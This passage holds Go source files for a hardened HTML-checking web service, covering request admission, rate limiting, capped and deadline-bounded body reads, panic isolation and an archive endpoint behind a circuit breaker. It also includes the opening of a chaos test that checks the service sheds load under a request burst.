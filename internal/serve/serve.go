// Package serve is the online checking service: it exposes the
// violation checker of internal/core over HTTP, hardened for hostile
// and overloaded conditions. The design goal (ROADMAP item 3) is that
// the service *degrades*, never *collapses*: every resource a request
// can consume — a worker, a queue slot, body bytes, parse depth, wall
// time — is explicitly bounded, and crossing a bound produces a fast,
// cheap, honest rejection (429/503 with Retry-After, 413, 422, 408)
// instead of an invisible backlog.
//
// The admission path layers, cheapest check first:
//
//	drain gate → per-tenant token bucket → bounded worker pool →
//	capped body read (progress deadline) → deadline-bounded,
//	depth-capped, panic-isolated check
//
// All primitives come from internal/resilience; the checker runs on
// the constant-memory streaming path whenever its rule set allows
// (core.Checker.NeedsTree) and on a depth-capped pooled tree parse
// otherwise.
package serve

import (
	"context"
	"encoding/json"
	"errors"
	"net"
	"net/http"
	"strconv"
	"sync/atomic"
	"time"

	"github.com/hvscan/hvscan/internal/autofix"
	"github.com/hvscan/hvscan/internal/commoncrawl"
	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/htmlparse"
	"github.com/hvscan/hvscan/internal/obs"
	"github.com/hvscan/hvscan/internal/resilience"
)

// Config tunes a Server. The zero value gives a hardened default:
// every knob has a bound — "unlimited" always takes an explicit
// negative opt-out, never a forgotten zero.
type Config struct {
	// Checker runs the rules; nil means the full catalogue
	// (core.NewChecker()).
	Checker *core.Checker
	// Registry receives the serve_* metrics; nil creates a private one.
	Registry *obs.Registry

	// MaxBodyBytes caps the request body (default 2 MiB, the pipeline's
	// document cap). Beyond it the request fails with 413.
	MaxBodyBytes int64
	// MaxTreeDepth caps the open-element stack of tree-mode parses
	// (default 512); adversarial deep nesting fails with 422.
	MaxTreeDepth int
	// RequestTimeout bounds the check itself (default 2s); the deadline
	// propagates into the tokenizer/tree-builder loops.
	RequestTimeout time.Duration
	// BodyProgressTimeout bounds the wait for each body read to make
	// progress (default 5s) — the slowloris defense: a client trickling
	// bytes is cut off with 408, freeing its worker. Negative disables.
	BodyProgressTimeout time.Duration

	// Admission configures the global bounded worker pool.
	Admission resilience.AdmissionConfig
	// TenantRate / TenantBurst configure the per-tenant token buckets
	// (default 100 req/s, burst 200). A negative rate disables
	// per-tenant limiting (benchmarks, trusted single-tenant loads).
	TenantRate  float64
	TenantBurst float64
	// MaxTenants caps the tracked-tenant map
	// (default resilience.DefaultMaxTenants).
	MaxTenants int

	// Archive, when set, enables GET /v1/archive-check: fetch captures
	// of a domain from the archive and check them. The endpoint is
	// guarded by a circuit breaker so a sick archive backend sheds fast
	// instead of tying up workers.
	Archive commoncrawl.Archive
	// Breaker tunes that circuit breaker.
	Breaker resilience.BreakerConfig
}

func (c Config) withDefaults() Config {
	if c.MaxBodyBytes == 0 {
		c.MaxBodyBytes = 2 << 20
	}
	if c.MaxTreeDepth == 0 {
		c.MaxTreeDepth = 512
	}
	if c.RequestTimeout <= 0 {
		c.RequestTimeout = 2 * time.Second
	}
	if c.BodyProgressTimeout == 0 {
		c.BodyProgressTimeout = 5 * time.Second
	}
	if c.TenantRate == 0 {
		c.TenantRate = 100
	}
	if c.TenantBurst <= 0 {
		c.TenantBurst = 2 * c.TenantRate
	}
	return c
}

// Server is the checking service. Construct with New; it implements
// http.Handler.
type Server struct {
	cfg      Config
	checker  *core.Checker
	reg      *obs.Registry
	pool     *resilience.AdmissionPool
	tenants  *resilience.Buckets // nil when per-tenant limiting is off
	breaker  *resilience.Breaker
	mux      *http.ServeMux
	draining atomic.Bool

	reqs       map[string]*obs.Counter // by status class
	shedBy     map[string]*obs.Counter // by shed reason
	latency    *obs.Histogram
	inflight   *obs.Gauge
	bodySize   *obs.Histogram
	panics     *obs.Counter
	fixReqs    map[string]*obs.Counter // by repair outcome
	fixLatency *obs.Histogram
	drainHint  time.Duration
}

// Metric names are part of the measurement contract (obsnames lint).
const (
	metricRequestsTotal  = "serve_requests_total"
	metricShedTotal      = "serve_shed_total"
	metricRequestSeconds = "serve_request_seconds"
	metricInflight       = "serve_inflight_requests"
	metricBodyBytes      = "serve_body_bytes"
	metricPanicsTotal    = "serve_panics_total"
	metricFixTotal       = "serve_fix_requests_total"
	metricFixSeconds     = "serve_fix_seconds"
)

// fixOutcomes are the label values of serve_fix_requests_total: the
// repair engine's outcomes plus "error" for requests that never reached
// a verdict (bad encoding, depth cap, deadline, panic).
func fixOutcomes() []string { return append(autofix.Outcomes(), "error") }

// statusClasses are the fixed label values of serve_requests_total.
// "other" absorbs anything unmapped, including requests whose client
// vanished before a status was written.
var statusClasses = []string{
	"200", "400", "404", "405", "408", "413", "415", "422", "429", "500", "502", "503", "other",
}

// shedReasons are the fixed label values of serve_shed_total, one per
// gate that can reject work: the drain gate, the tenant bucket, the
// worker pool, the request deadline, and the archive breaker.
var shedReasons = []string{"drain", "tenant", "pool", "deadline", "breaker"}

// New builds a Server from cfg.
func New(cfg Config) *Server {
	cfg = cfg.withDefaults()
	reg := cfg.Registry
	if reg == nil {
		reg = obs.NewRegistry()
	}
	checker := cfg.Checker
	if checker == nil {
		checker = core.NewChecker().Instrument(reg)
	}
	s := &Server{
		cfg:        cfg,
		checker:    checker,
		reg:        reg,
		pool:       resilience.NewAdmissionPool(cfg.Admission),
		breaker:    resilience.NewBreaker(cfg.Breaker),
		reqs:       reg.CounterVec(metricRequestsTotal, "code", statusClasses...),
		shedBy:     reg.CounterVec(metricShedTotal, "reason", shedReasons...),
		latency:    reg.Histogram(metricRequestSeconds, obs.DurationBuckets),
		inflight:   reg.Gauge(metricInflight),
		bodySize:   reg.Histogram(metricBodyBytes, obs.SizeBuckets),
		panics:     reg.Counter(metricPanicsTotal),
		fixReqs:    reg.CounterVec(metricFixTotal, "outcome", fixOutcomes()...),
		fixLatency: reg.Histogram(metricFixSeconds, obs.DurationBuckets),
		drainHint:  time.Second,
	}
	if cfg.TenantRate > 0 {
		s.tenants = resilience.NewBuckets(cfg.TenantRate, cfg.TenantBurst, cfg.MaxTenants)
	}
	s.mux = http.NewServeMux()
	s.mux.HandleFunc("POST /v1/check", s.handleCheck)
	s.mux.HandleFunc("POST /v1/fix", s.handleFix)
	s.mux.HandleFunc("GET /v1/archive-check", s.handleArchiveCheck)
	s.mux.HandleFunc("GET /healthz", s.handleHealthz)
	s.mux.HandleFunc("GET /readyz", s.handleReadyz)
	debug := obs.NewDebugMux(reg)
	s.mux.Handle("GET /metrics", debug)
	s.mux.Handle("/debug/pprof/", debug)
	return s
}

// Registry returns the server's metrics registry.
func (s *Server) Registry() *obs.Registry { return s.reg }

// ServeHTTP dispatches to the server's routes.
func (s *Server) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s.mux.ServeHTTP(w, r)
}

// BeginDrain flips the server into draining: readyz starts failing (so
// load balancers stop routing here) and new check requests are shed
// with 503 while in-flight ones finish. Run wires this to context
// cancellation; it is idempotent.
func (s *Server) BeginDrain() { s.draining.Store(true) }

// Draining reports whether BeginDrain was called.
func (s *Server) Draining() bool { return s.draining.Load() }

// InFlight returns the number of admitted, still-running checks.
func (s *Server) InFlight() int { return s.pool.InFlight() }

// Violation is one finding in a response.
type Violation struct {
	Rule     string `json:"rule"`
	Line     int    `json:"line"`
	Col      int    `json:"col"`
	Evidence string `json:"evidence,omitempty"`
}

// CheckResponse is the body of a successful POST /v1/check.
type CheckResponse struct {
	// Mode is "stream" (constant-memory tokenizer path) or "tree".
	Mode string `json:"mode"`
	// Bytes is the checked document's size.
	Bytes int `json:"bytes"`
	// Violations lists every finding; RuleHits aggregates them by rule.
	Violations []Violation    `json:"violations"`
	RuleHits   map[string]int `json:"rule_hits,omitempty"`
	// Signals are the paper's auxiliary per-page measurements.
	Signals core.Signals `json:"signals"`
}

// ErrorResponse is the body of every non-2xx response.
type ErrorResponse struct {
	Error string `json:"error"`
	// RetryAfterSeconds mirrors the Retry-After header on 429/503.
	RetryAfterSeconds int `json:"retry_after_seconds,omitempty"`
}

// errCheckPanicked reports a rule or parser panic isolated by the
// per-request recover; the request fails 500 but the process lives.
var errCheckPanicked = errors.New("serve: internal panic while checking the document")

// admitAndRead runs the shared admission prelude of the document
// endpoints: drain gate → per-tenant token bucket → bounded worker pool
// → capped, progress-deadlined body read. Order matters: each gate is
// cheaper than the next, so a rejected request costs as little as
// possible. ok is false when the request was already answered; cleanup
// (pool release, in-flight gauge, body buffer return) must be deferred
// either way.
func (s *Server) admitAndRead(sw *statusWriter, r *http.Request) (body []byte, cleanup func(), ok bool) {
	cleanup = func() {}
	if s.draining.Load() {
		sw.Header().Set("Connection", "close")
		s.shed(sw, "drain", http.StatusServiceUnavailable, "server is draining", s.drainHint)
		return nil, cleanup, false
	}
	if s.tenants != nil {
		if ra, err := s.tenants.Allow(tenantOf(r)); err != nil {
			s.shed(sw, "tenant", http.StatusTooManyRequests, "tenant rate limit exceeded", ra)
			return nil, cleanup, false
		}
	}
	release, err := s.pool.Acquire(r.Context())
	if err != nil {
		if errors.Is(err, resilience.ErrOverloaded) {
			s.shed(sw, "pool", http.StatusServiceUnavailable, "server overloaded", s.pool.RetryAfter())
		}
		// Otherwise the client went away while queued: nothing to write.
		return nil, cleanup, false
	}
	s.inflight.Inc()
	body, putBody, err := readBody(sw, r, s.cfg.MaxBodyBytes, s.cfg.BodyProgressTimeout)
	cleanup = func() {
		putBody()
		s.inflight.Dec()
		release()
	}
	if err != nil {
		switch {
		case errors.Is(err, ErrBodyTooLarge):
			writeError(sw, http.StatusRequestEntityTooLarge, "request body exceeds "+strconv.FormatInt(s.cfg.MaxBodyBytes, 10)+" bytes", 0)
		case errors.Is(err, ErrBodyStalled):
			sw.Header().Set("Connection", "close")
			writeError(sw, http.StatusRequestTimeout, "request body stalled", 0)
		default:
			writeError(sw, http.StatusBadRequest, "unreadable request body", 0)
		}
		return nil, cleanup, false
	}
	s.bodySize.Observe(float64(len(body)))
	return body, cleanup, true
}

// handleCheck runs the admission pipeline described in the package
// comment, then the deadline-bounded, panic-isolated check.
func (s *Server) handleCheck(w http.ResponseWriter, r *http.Request) {
	start := time.Now()
	sw := &statusWriter{ResponseWriter: w}
	defer func() {
		s.latency.ObserveSince(start)
		s.countStatus(sw.status)
	}()

	body, cleanup, ok := s.admitAndRead(sw, r)
	defer cleanup()
	if !ok {
		return
	}
	ctx, cancel := context.WithTimeout(r.Context(), s.cfg.RequestTimeout)
	defer cancel()
	rep, mode, err := s.check(ctx, body)
	if err != nil {
		s.writeCheckError(sw, r, err)
		return
	}
	writeJSON(sw, http.StatusOK, checkResponseOf(rep, mode, len(body)))
}

// writeCheckError maps a check failure to its response. Input faults
// are 4xx; exhausting the request deadline is an overload symptom and
// sheds 503 with the honest hint "one full timeout from now".
func (s *Server) writeCheckError(w http.ResponseWriter, r *http.Request, err error) {
	switch {
	case errors.Is(err, htmlparse.ErrNotUTF8):
		writeError(w, http.StatusUnsupportedMediaType, "document is not valid UTF-8", 0)
	case errors.Is(err, htmlparse.ErrTreeDepthExceeded):
		writeError(w, http.StatusUnprocessableEntity, "document nests deeper than "+strconv.Itoa(s.cfg.MaxTreeDepth)+" elements", 0)
	case errors.Is(err, errCheckPanicked):
		writeError(w, http.StatusInternalServerError, "internal error while checking the document", 0)
	case errors.Is(err, context.DeadlineExceeded) && r.Context().Err() == nil:
		s.shed(w, "deadline", http.StatusServiceUnavailable, "check exceeded the request deadline", s.cfg.RequestTimeout)
	default:
		// The client disconnected mid-check: nothing useful to write.
	}
}

// check runs the document through the checker with panic isolation.
// The streaming path is taken whenever the rule set permits; otherwise
// a depth-capped pooled tree parse. A panic in a rule or the parser is
// confined to this request: the recover converts it to an error, and
// the deferred pool release in the caller still runs.
func (s *Server) check(ctx context.Context, body []byte) (rep *core.Report, mode string, err error) {
	defer func() {
		if p := recover(); p != nil {
			s.panics.Inc()
			rep, err = nil, errCheckPanicked
		}
	}()
	if !s.checker.NeedsTree() {
		rep, err = s.checker.CheckStreamContext(ctx, body)
		return rep, "stream", err
	}
	res, err := htmlparse.ParseReuseContext(ctx, body, htmlparse.Options{
		RecordTokens: true,
		MaxTreeDepth: s.cfg.MaxTreeDepth,
	})
	if err != nil {
		return nil, "tree", err
	}
	return s.checker.CheckParsed(&core.Page{Result: res}), "tree", nil
}

// AppliedFix is one verified repair action in a FixResponse.
type AppliedFix struct {
	Rule        string `json:"rule"`
	Description string `json:"description"`
	Line        int    `json:"line"`
	Col         int    `json:"col"`
}

// UnfixableRule explains why a rule's violations could not be repaired.
type UnfixableRule struct {
	Rule   string `json:"rule"`
	Reason string `json:"reason"`
}

// FixResponse is the body of a successful POST /v1/fix. HTML always
// carries bytes that are safe to serve: the verified repaired document,
// or the original input byte for byte when the outcome is unfixable —
// the engine never emits unverified output.
type FixResponse struct {
	// Outcome is clean, fixed, partial, or unfixable.
	Outcome string `json:"outcome"`
	// Bytes is the returned document's size.
	Bytes int `json:"bytes"`
	// HTML is the repaired document (the input, when clean or unfixable).
	HTML string `json:"html"`
	// Applied lists every verified fix; empty for clean and unfixable.
	Applied []AppliedFix `json:"applied,omitempty"`
	// Unfixable lists the rules whose repair failed verification.
	Unfixable []UnfixableRule `json:"unfixable,omitempty"`
	// RemainingHits are the violations still present in HTML, by rule.
	RemainingHits map[string]int `json:"remaining_hits,omitempty"`
	// Rounds is how many fix→recheck rounds the repair took.
	Rounds int `json:"rounds"`
}

// handleFix is POST /v1/fix: the same admission pipeline as /v1/check,
// then the validated repair engine under the request deadline. Every
// request lands in serve_fix_requests_total by outcome.
func (s *Server) handleFix(w http.ResponseWriter, r *http.Request) {
	start := time.Now()
	sw := &statusWriter{ResponseWriter: w}
	outcome := ""
	defer func() {
		s.fixLatency.ObserveSince(start)
		s.latency.ObserveSince(start)
		s.countStatus(sw.status)
		if outcome == "" {
			outcome = "error"
		}
		s.fixReqs[outcome].Inc()
	}()

	body, cleanup, ok := s.admitAndRead(sw, r)
	defer cleanup()
	if !ok {
		return
	}
	ctx, cancel := context.WithTimeout(r.Context(), s.cfg.RequestTimeout)
	defer cancel()
	res, err := s.repair(ctx, body)
	if err != nil {
		s.writeCheckError(sw, r, err)
		return
	}
	outcome = string(res.Outcome())
	resp := &FixResponse{
		Outcome:       outcome,
		Bytes:         len(res.Output),
		HTML:          string(res.Output),
		RemainingHits: res.RemainingHits,
		Rounds:        res.Rounds,
	}
	for _, f := range res.Applied {
		resp.Applied = append(resp.Applied, AppliedFix{
			Rule: f.RuleID, Description: f.Description, Line: f.Pos.Line, Col: f.Pos.Col,
		})
	}
	for _, u := range res.Unfixable {
		resp.Unfixable = append(resp.Unfixable, UnfixableRule{Rule: u.RuleID, Reason: u.Reason})
	}
	writeJSON(sw, http.StatusOK, resp)
}

// repair runs the repair engine with the same panic isolation as check:
// a panic costs this request, never the process.
func (s *Server) repair(ctx context.Context, body []byte) (res *autofix.Result, err error) {
	defer func() {
		if p := recover(); p != nil {
			s.panics.Inc()
			res, err = nil, errCheckPanicked
		}
	}()
	return autofix.RepairContext(ctx, body, autofix.Options{MaxTreeDepth: s.cfg.MaxTreeDepth})
}

func checkResponseOf(rep *core.Report, mode string, size int) *CheckResponse {
	resp := &CheckResponse{
		Mode:       mode,
		Bytes:      size,
		Violations: violationsOf(rep),
		RuleHits:   rep.RuleHits,
		Signals:    rep.Signals,
	}
	return resp
}

func violationsOf(rep *core.Report) []Violation {
	vs := make([]Violation, len(rep.Findings))
	for i, f := range rep.Findings {
		vs[i] = Violation{Rule: f.RuleID, Line: f.Pos.Line, Col: f.Pos.Col, Evidence: f.Evidence}
	}
	return vs
}

func (s *Server) handleHealthz(w http.ResponseWriter, _ *http.Request) {
	w.Header().Set("Content-Type", "text/plain; charset=utf-8")
	_, _ = w.Write([]byte("ok\n"))
}

// handleReadyz fails while draining so load balancers pull the
// instance before its listener closes — the other half of zero-downtime
// restarts besides Run's in-flight drain.
func (s *Server) handleReadyz(w http.ResponseWriter, _ *http.Request) {
	w.Header().Set("Content-Type", "text/plain; charset=utf-8")
	if s.draining.Load() {
		w.WriteHeader(http.StatusServiceUnavailable)
		_, _ = w.Write([]byte("draining\n"))
		return
	}
	_, _ = w.Write([]byte("ready\n"))
}

// tenantOf identifies the requester for rate limiting: the X-Tenant
// header when present (trusted deployments put an API key ID here),
// else the peer IP — so an unauthenticated flood still only throttles
// its own source address.
//
//hv:hotpath runs before admission, on every request including floods
func tenantOf(r *http.Request) string {
	if t := r.Header.Get("X-Tenant"); t != "" {
		return t
	}
	host, _, err := net.SplitHostPort(r.RemoteAddr)
	if err != nil {
		return r.RemoteAddr
	}
	return host
}

// shed records a rejected request and answers with the Retry-After
// hint. Shedding is the service working as designed, not failing — it
// gets its own counter so overload is visible as a rate, not an error
// log.
//
//hv:hotpath rejections must stay cheaper than the work they refuse
func (s *Server) shed(w http.ResponseWriter, reason string, status int, msg string, retryAfter time.Duration) {
	if c, ok := s.shedBy[reason]; ok {
		c.Inc()
	}
	writeError(w, status, msg, retryAfter)
}

func (s *Server) countStatus(status int) {
	key := strconv.Itoa(status)
	c, ok := s.reqs[key]
	if !ok {
		c = s.reqs["other"]
	}
	c.Inc()
}

// writeError emits the JSON error body; a positive retryAfter adds the
// Retry-After header (whole seconds, rounded up, minimum 1 — clients
// treat 0 as "immediately", which defeats the backoff).
func writeError(w http.ResponseWriter, status int, msg string, retryAfter time.Duration) {
	resp := ErrorResponse{Error: msg}
	if retryAfter > 0 {
		secs := int((retryAfter + time.Second - 1) / time.Second)
		if secs < 1 {
			secs = 1
		}
		w.Header().Set("Retry-After", strconv.Itoa(secs))
		resp.RetryAfterSeconds = secs
	}
	writeJSON(w, status, resp)
}

func writeJSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	enc := json.NewEncoder(w)
	_ = enc.Encode(v)
}

// statusWriter records the status for the serve_requests_total
// counter. Unwrap keeps http.NewResponseController working through it
// (the body reader sets per-chunk read deadlines on the underlying
// connection).
type statusWriter struct {
	http.ResponseWriter
	status int
}

func (sw *statusWriter) WriteHeader(code int) {
	if sw.status == 0 {
		sw.status = code
	}
	sw.ResponseWriter.WriteHeader(code)
}

func (sw *statusWriter) Write(b []byte) (int, error) {
	if sw.status == 0 {
		sw.status = http.StatusOK
	}
	return sw.ResponseWriter.Write(b)
}

func (sw *statusWriter) Unwrap() http.ResponseWriter { return sw.ResponseWriter }
