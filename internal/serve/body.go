package serve

import (
	"errors"
	"fmt"
	"io"
	"net/http"
	"os"
	"sync"
	"time"
)

// Hardened request-body reading. Three attacks are covered:
//
//   - oversized bodies: http.MaxBytesReader cuts the read off at the
//     configured cap (→ 413) and tells the server to close the
//     connection, so a client cannot stream gigabytes at a worker;
//   - slowloris uploads: a per-chunk read deadline demands *progress*,
//     not completion — a client trickling one byte per minute is cut
//     off (→ 408) while a legitimately slow-but-moving upload of any
//     length is fine;
//   - allocation churn: bodies land in pooled buffers, so a hot serve
//     loop recycles instead of growing the heap with request rate.
var (
	// ErrBodyTooLarge: the body exceeded the configured cap.
	ErrBodyTooLarge = errors.New("serve: request body exceeds the configured cap")
	// ErrBodyStalled: a body read made no progress within the window.
	ErrBodyStalled = errors.New("serve: request body stalled")
)

const (
	// bodyPoolInitialCap sizes fresh pool buffers (the corpus median
	// page is well under 64 KiB).
	bodyPoolInitialCap = 64 << 10
	// bodyPoolMaxRetained is the largest buffer worth keeping pooled;
	// rare outliers near the 2 MiB cap are returned to the GC rather
	// than pinned forever.
	bodyPoolMaxRetained = 4 << 20
)

var bodyPool = sync.Pool{New: func() any {
	b := make([]byte, 0, bodyPoolInitialCap)
	return &b
}}

// readBody reads r's body into a pooled buffer, enforcing the size cap
// and the per-chunk progress deadline. The returned release func MUST
// be called (defer it) once the body — and anything aliasing it — is
// dead; it is safe to call even on error. On platforms or recorders
// where read deadlines are unsupported, the progress check degrades
// gracefully to the server-level timeouts.
func readBody(w http.ResponseWriter, r *http.Request, maxBytes int64, progress time.Duration) ([]byte, func(), error) {
	rc := http.NewResponseController(w)
	src := http.MaxBytesReader(w, r.Body, maxBytes)
	bp := bodyPool.Get().(*[]byte)
	buf := (*bp)[:0]
	release := func() {
		if cap(buf) <= bodyPoolMaxRetained {
			*bp = buf[:0]
			bodyPool.Put(bp)
		}
	}
	deadlines := progress > 0
	for {
		if deadlines {
			if derr := rc.SetReadDeadline(time.Now().Add(progress)); derr != nil {
				deadlines = false
			}
		}
		if len(buf) == cap(buf) {
			// Grow via append's doubling, then re-expose the spare
			// capacity: the buffer stays a single contiguous read target.
			buf = append(buf, 0)[:len(buf)]
		}
		n, err := src.Read(buf[len(buf):cap(buf)])
		buf = buf[:len(buf)+n]
		if err != nil {
			if errors.Is(err, io.EOF) {
				break
			}
			var mbe *http.MaxBytesError
			switch {
			case errors.As(err, &mbe):
				err = ErrBodyTooLarge
			case errors.Is(err, os.ErrDeadlineExceeded):
				err = ErrBodyStalled
			default:
				err = fmt.Errorf("serve: reading request body: %w", err)
			}
			return nil, release, err
		}
	}
	if deadlines {
		// Clear the deadline so it cannot fire on the response write.
		_ = rc.SetReadDeadline(time.Time{})
	}
	return buf, release, nil
}
