package serve

import (
	"context"
	"errors"
	"net/http"
	"strconv"
	"time"

	"github.com/hvscan/hvscan/internal/commoncrawl"
	"github.com/hvscan/hvscan/internal/resilience"
)

// GET /v1/archive-check — the one route with a *dependency*: it pulls
// captures of a domain out of the configured archive and checks them.
// The archive (disk, or eventually the CDX API over the network) can
// get sick independently of this process, so the route sits behind a
// circuit breaker: after a run of retryable backend failures the
// breaker opens and requests shed in microseconds with 503 instead of
// each one burning a worker on a doomed backend call.

// archiveCheckMaxLimit caps captures fetched per request; checking is
// cheap but each capture is a backend round trip.
const archiveCheckMaxLimit = 10

// ArchivePage is one checked capture.
type ArchivePage struct {
	URL    string `json:"url"`
	Status int    `json:"status"`
	MIME   string `json:"mime"`
	// Violations is present only for HTML captures that checked clean
	// through the pipeline; Error carries a per-page check failure
	// (e.g. not UTF-8) without failing the whole request.
	Violations []Violation `json:"violations"`
	Error      string      `json:"error,omitempty"`
}

// ArchiveCheckResponse is the body of a successful archive-check.
type ArchiveCheckResponse struct {
	Crawl  string        `json:"crawl"`
	Domain string        `json:"domain"`
	Pages  []ArchivePage `json:"pages"`
}

func (s *Server) handleArchiveCheck(w http.ResponseWriter, r *http.Request) {
	start := time.Now()
	sw := &statusWriter{ResponseWriter: w}
	defer func() {
		s.latency.ObserveSince(start)
		s.countStatus(sw.status)
	}()

	if s.cfg.Archive == nil {
		writeError(sw, http.StatusNotFound, "no archive configured", 0)
		return
	}
	if s.draining.Load() {
		sw.Header().Set("Connection", "close")
		s.shed(sw, "drain", http.StatusServiceUnavailable, "server is draining", s.drainHint)
		return
	}
	q := r.URL.Query()
	domain := q.Get("domain")
	if domain == "" {
		writeError(sw, http.StatusBadRequest, "missing required query parameter: domain", 0)
		return
	}
	crawl := q.Get("crawl")
	if crawl == "" {
		crawls := s.cfg.Archive.Crawls()
		if len(crawls) == 0 {
			writeError(sw, http.StatusNotFound, "archive has no crawls", 0)
			return
		}
		crawl = crawls[len(crawls)-1]
	}
	limit := 1
	if v := q.Get("limit"); v != "" {
		n, err := strconv.Atoi(v)
		if err != nil || n < 1 {
			writeError(sw, http.StatusBadRequest, "limit must be a positive integer", 0)
			return
		}
		limit = min(n, archiveCheckMaxLimit)
	}

	release, err := s.pool.Acquire(r.Context())
	if err != nil {
		if errors.Is(err, resilience.ErrOverloaded) {
			s.shed(sw, "pool", http.StatusServiceUnavailable, "server overloaded", s.pool.RetryAfter())
		}
		return
	}
	defer release()
	s.inflight.Inc()
	defer s.inflight.Dec()

	if err := s.breaker.Allow(); err != nil {
		s.shed(sw, "breaker", http.StatusServiceUnavailable, "archive backend unavailable", s.breakerCooldown())
		return
	}
	ctx, cancel := context.WithTimeout(r.Context(), s.cfg.RequestTimeout)
	defer cancel()
	resp, err := s.archiveCheck(ctx, crawl, domain, limit)
	// Every nil Allow pairs with exactly one Record; only backend
	// failures reach err here, so the breaker sees dependency health,
	// not input quality.
	s.breaker.Record(err)
	if err != nil {
		s.writeArchiveError(sw, err)
		return
	}
	writeJSON(sw, http.StatusOK, resp)
}

// archiveCheck fetches up to limit captures and checks the HTML ones.
// A per-page *check* failure is recorded on the page; only *backend*
// failures (query, fetch, deadline) abort and count against the
// breaker.
func (s *Server) archiveCheck(ctx context.Context, crawl, domain string, limit int) (*ArchiveCheckResponse, error) {
	recs, err := s.cfg.Archive.Query(ctx, crawl, domain, limit)
	if err != nil {
		return nil, err
	}
	resp := &ArchiveCheckResponse{Crawl: crawl, Domain: domain, Pages: []ArchivePage{}}
	for _, rec := range recs {
		capt, err := commoncrawl.FetchCapture(ctx, s.cfg.Archive, rec)
		if err != nil {
			return nil, err
		}
		page := ArchivePage{URL: capt.URL, Status: capt.Status, MIME: capt.MIME, Violations: []Violation{}}
		if capt.MIME == "text/html" {
			rep, _, cerr := s.check(ctx, capt.Body)
			switch {
			case cerr == nil:
				page.Violations = violationsOf(rep)
			case ctx.Err() != nil:
				// The deadline consumed by backend fetches expired
				// mid-check: an overload symptom, not a page property.
				return nil, cerr
			default:
				page.Error = cerr.Error()
			}
		}
		resp.Pages = append(resp.Pages, page)
	}
	return resp, nil
}

// writeArchiveError maps a backend failure by its resilience class: a
// permanent error is the backend answering "no such thing" (404), a
// retryable one is the backend struggling (502 + Retry-After), and our
// own deadline is a shed (503).
func (s *Server) writeArchiveError(w http.ResponseWriter, err error) {
	if errors.Is(err, context.DeadlineExceeded) {
		s.shed(w, "deadline", http.StatusServiceUnavailable, "archive check exceeded the request deadline", s.cfg.RequestTimeout)
		return
	}
	switch resilience.Classify(err) {
	case resilience.ClassPermanent:
		writeError(w, http.StatusNotFound, err.Error(), 0)
	case resilience.ClassFatal:
		writeError(w, http.StatusInternalServerError, err.Error(), 0)
	default:
		writeError(w, http.StatusBadGateway, err.Error(), s.breakerCooldown())
	}
}

// breakerCooldown is the Retry-After hint for breaker sheds: one
// cooldown from now is when probes resume.
func (s *Server) breakerCooldown() time.Duration {
	if s.cfg.Breaker.Cooldown > 0 {
		return s.cfg.Breaker.Cooldown
	}
	return 15 * time.Second
}
