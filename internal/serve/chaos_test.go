package serve

// The chaos acceptance suite: adversarial and overload scenarios over
// a real TCP listener, proving the guarantees ROADMAP item 3 claims —
// overload sheds fast instead of queueing without bound, slowloris
// clients are cut off, cancellation and shed requests never corrupt
// pooled state, and a drain finishes in-flight work. `make serve-chaos`
// runs this file race-enabled in CI.

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/hvscan/hvscan/internal/resilience"
)

// startChaos serves a new Server on a real loopback listener and
// returns its base URL plus an idempotent shutdown func (also run at
// cleanup) that triggers the graceful drain and reports Run's error.
func startChaos(t *testing.T, cfg Config) (string, *Server, func() error) {
	t.Helper()
	s := New(cfg)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	hs := NewHTTPServer(ln.Addr().String(), s)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- RunListener(ctx, hs, ln, 10*time.Second, s.BeginDrain) }()
	var once sync.Once
	var serr error
	shutdown := func() error {
		once.Do(func() { cancel(); serr = <-done })
		return serr
	}
	t.Cleanup(func() { _ = shutdown() })
	return "http://" + ln.Addr().String(), s, shutdown
}

// slowDoc is big enough that one check takes real work (milliseconds),
// so a burst actually saturates a small worker pool.
var slowDoc = []byte("<!DOCTYPE html><body>" +
	strings.Repeat("<p class=a id=b>text <b>with <i>markup</i></b></p>", 20000))

func TestServeChaosOverloadBurstShedsFast(t *testing.T) {
	// A long request deadline isolates the variable under test: every
	// 503 in this storm is a pool shed, not a deadline shed (the race
	// detector slows checks past the default deadline otherwise).
	base, s, _ := startChaos(t, Config{
		TenantRate:     -1,
		RequestTimeout: 30 * time.Second,
		Admission:      resilience.AdmissionConfig{Workers: 2, Queue: 2, QueueWait: 50 * time.Millisecond},
	})
	client := &http.Client{}
	const burst = 64
	var ok200, shed503, other atomic.Int64
	var maxShedLatency atomic.Int64
	var wg sync.WaitGroup
	for i := 0; i < burst; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			t0 := time.Now()
			resp, err := client.Post(base+"/v1/check", "text/html", strings.NewReader(string(slowDoc)))
			if err != nil {
				other.Add(1)
				return
			}
			_, _ = io.Copy(io.Discard, resp.Body)
			_ = resp.Body.Close()
			switch resp.StatusCode {
			case http.StatusOK:
				ok200.Add(1)
			case http.StatusServiceUnavailable:
				shed503.Add(1)
				if resp.Header.Get("Retry-After") == "" {
					other.Add(1)
				}
				if d := time.Since(t0); d.Nanoseconds() > maxShedLatency.Load() {
					maxShedLatency.Store(d.Nanoseconds())
				}
			default:
				other.Add(1)
			}
		}()
	}
	wg.Wait()
	if other.Load() != 0 {
		t.Fatalf("unexpected outcomes: %d (want only 200s and well-formed 503s)", other.Load())
	}
	if ok200.Load() == 0 {
		t.Fatal("overload burst: nothing got through")
	}
	if shed503.Load() == 0 {
		t.Fatalf("64-way burst against 2 workers shed nothing (ok=%d)", ok200.Load())
	}
	// The core overload guarantee: a shed answer is cheap and fast —
	// bounded by the queue wait plus scheduling slack, never by the
	// backlog's length. Serving the whole backlog would take tens of
	// seconds (64 heavy checks over 2 workers under the race
	// detector), so a 5s bound still separates the two regimes while
	// absorbing single-core scheduling jitter.
	if max := time.Duration(maxShedLatency.Load()); max > 5*time.Second {
		t.Fatalf("slowest shed took %s; sheds must not wait on the backlog", max)
	}
	if s.InFlight() != 0 {
		t.Fatalf("in-flight after burst = %d, want 0", s.InFlight())
	}
	// The pool still admits normal work.
